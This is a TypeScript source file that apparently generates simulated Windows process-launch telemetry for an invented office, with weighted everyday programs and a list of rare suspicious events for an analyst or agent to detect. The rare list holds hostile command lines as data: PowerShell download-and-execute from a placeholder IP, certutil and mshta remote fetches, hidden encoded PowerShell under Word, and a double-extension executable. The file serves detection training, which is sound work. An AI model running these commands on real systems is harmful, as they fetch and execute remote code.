/**
 * The programs of the invented office: what is started, by what, how, and which traits the agent would see in it.
 */

export interface ProgramStart {
  readonly executable: string;
  readonly parent: string;
  /** Command line after the quoted executable. */
  readonly args: string;
  /** Label of the watched program. */
  readonly program?: string;
  /** False: a helper process. */
  readonly launch?: boolean;
  readonly flags?: readonly string[];
  readonly redacted?: number;
  /** High integrity and a full token. */
  readonly elevated?: boolean;
}

const SYSTEM32 = 'C:\\Windows\\System32';
const EXPLORER = 'C:\\Windows\\explorer.exe';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const YANDEX = 'C:\\Users\\Public\\Yandex\\YandexBrowser\\Application\\browser.exe';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const CMD = `${SYSTEM32}\\cmd.exe`;
const SERVICES = `${SYSTEM32}\\services.exe`;

/** What a working day is made of, with how often each comes up compared with the others. */
export const EVERYDAY: readonly (readonly [weight: number, start: ProgramStart])[] = [
  [
    14,
    {
      executable: CHROME,
      parent: EXPLORER,
      args: '--profile-directory=Default',
      program: 'Google Chrome',
    },
  ],
  [
    12,
    {
      executable: CHROME,
      parent: CHROME,
      args: '--type=renderer --lang=ru',
      program: 'Google Chrome',
      launch: false,
    },
  ],
  [
    7,
    {
      executable: YANDEX,
      parent: EXPLORER,
      args: '',
      program: 'Yandex Browser',
      flags: ['user_writable_path'],
    },
  ],
  [
    5,
    {
      executable: 'C:\\Users\\Public\\Telegram Desktop\\Telegram.exe',
      parent: EXPLORER,
      args: '',
      program: 'Telegram',
      flags: ['user_writable_path'],
    },
  ],
  [10, { executable: EXPLORER, parent: EXPLORER, args: '/e,D:\\Документы', program: 'Explorer' }],
  [
    9,
    {
      executable: `${OFFICE}\\WINWORD.EXE`,
      parent: EXPLORER,
      args: '/n "D:\\Документы\\Отчёт.docx"',
    },
  ],
  [9, { executable: `${OFFICE}\\EXCEL.EXE`, parent: EXPLORER, args: '"D:\\Документы\\План.xlsx"' }],
  [6, { executable: `${OFFICE}\\OUTLOOK.EXE`, parent: EXPLORER, args: '' }],
  [
    3,
    {
      executable: CHROME,
      parent: `${OFFICE}\\OUTLOOK.EXE`,
      args: '--single-argument https://example.org/',
      program: 'Google Chrome',
      flags: ['office_child'],
    },
  ],
  [
    8,
    {
      executable: 'C:\\Program Files\\1cv8\\8.3.24.1467\\bin\\1cv8c.exe',
      parent: EXPLORER,
      args: 'ENTERPRISE /IBName Бухгалтерия',
    },
  ],
  [3, { executable: `${SYSTEM32}\\notepad.exe`, parent: EXPLORER, args: '' }],
  [2, { executable: CMD, parent: EXPLORER, args: '/k', flags: ['script_host'] }],
  [
    2,
    {
      executable: `${SYSTEM32}\\rundll32.exe`,
      parent: EXPLORER,
      args: 'shell32.dll,Control_RunDLL',
      flags: ['lolbin'],
    },
  ],
  [
    1,
    {
      executable: `${SYSTEM32}\\mmc.exe`,
      parent: EXPLORER,
      args: 'services.msc',
      flags: ['elevated'],
      elevated: true,
    },
  ],
];

/** What the system starts by itself on every PC, every day. */
export const BY_SYSTEM: readonly ProgramStart[] = [
  { executable: `${SYSTEM32}\\svchost.exe`, parent: SERVICES, args: '-k netsvcs -p -s Schedule' },
  { executable: `${SYSTEM32}\\taskhostw.exe`, parent: `${SYSTEM32}\\svchost.exe`, args: '' },
  {
    executable: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MpCmdRun.exe',
    parent: `${SYSTEM32}\\svchost.exe`,
    args: 'SignatureUpdate -ScheduleJob',
    flags: ['user_writable_path'],
  },
];

/** The text `Start-Sleep 1` in UTF-16 and Base64. */
const ENCODED = 'UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAAMQA=';

/** What happens once or twice a month and is what an analyst looks for. */
export const RARITIES: readonly ProgramStart[] = [
  {
    executable: POWERSHELL,
    parent: `${OFFICE}\\WINWORD.EXE`,
    args: `-NoProfile -WindowStyle Hidden -EncodedCommand ${ENCODED}`,
    flags: ['encoded_powershell', 'script_host', 'office_child'],
  },
  {
    executable: POWERSHELL,
    parent: CMD,
    args: `-ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"`,
    flags: ['script_host'],
  },
  {
    executable: `${SYSTEM32}\\certutil.exe`,
    parent: CMD,
    args: '-urlcache -split -f http://192.0.2.7/b.bin b.exe',
    flags: ['lolbin'],
  },
  {
    executable: `${SYSTEM32}\\mshta.exe`,
    parent: `${OFFICE}\\EXCEL.EXE`,
    args: 'http://192.0.2.7/c.hta',
    flags: ['script_host', 'lolbin', 'office_child'],
  },
  {
    executable: 'C:\\Users\\Public\\Downloads\\Счёт.pdf.exe',
    parent: `${OFFICE}\\OUTLOOK.EXE`,
    args: '',
    flags: ['office_child', 'user_writable_path', 'double_extension'],
  },
  {
    executable: 'C:\\Tools\\AnyDesk\\AnyDesk.exe',
    parent: EXPLORER,
    args: '--install',
    flags: ['remote_tool'],
  },
  {
    executable: `${SYSTEM32}\\net.exe`,
    parent: CMD,
    args: 'use \\\\files\\backup /user:backup ***',
    redacted: 1,
  },
  {
    executable: 'C:\\Program Files\\curl\\curl.exe',
    parent: CMD,
    args: '-u admin:*** -H "Authorization: Bearer ***" https://example.org/api',
    redacted: 2,
  },
  {
    executable: 'C:\\Program Files\\Java\\bin\\java.exe',
    parent: CMD,
    args: `-cp ${'C:\\lib\\long-name.jar;'.repeat(90)} Main`,
    flags: ['long_cmdline'],
  },
  {
    executable: 'C:\\Program Files\\Java\\bin\\java.exe',
    parent: CMD,
    args: `-cp ${'C:\\lib\\long-name.jar;'.repeat(200)} Main`,
    flags: ['long_cmdline'],
  },
  {
    executable: `${SYSTEM32}\\cmd.exe`,
    parent: EXPLORER,
    args: '/c whoami /all',
    flags: ['elevated', 'script_host'],
    elevated: true,
  },
];
